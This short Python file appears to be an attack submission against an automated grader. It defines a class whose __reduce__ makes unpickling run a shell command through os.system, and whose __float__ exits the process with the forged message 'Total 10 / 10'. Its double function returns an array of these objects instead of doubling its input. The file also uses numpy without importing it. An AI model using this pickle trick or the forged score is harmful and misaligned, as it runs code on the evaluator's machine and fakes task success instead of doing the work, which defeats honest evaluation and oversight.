"""Returns an array of objects that run code when they are pickled or unpickled.

attack: protocol
loses: double.value
"""
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/exploded",)
    def __float__(self):
        raise SystemExit("Total 10 / 10")

def double(x):
    return np.array([Bomb()] * np.size(x), dtype=object)
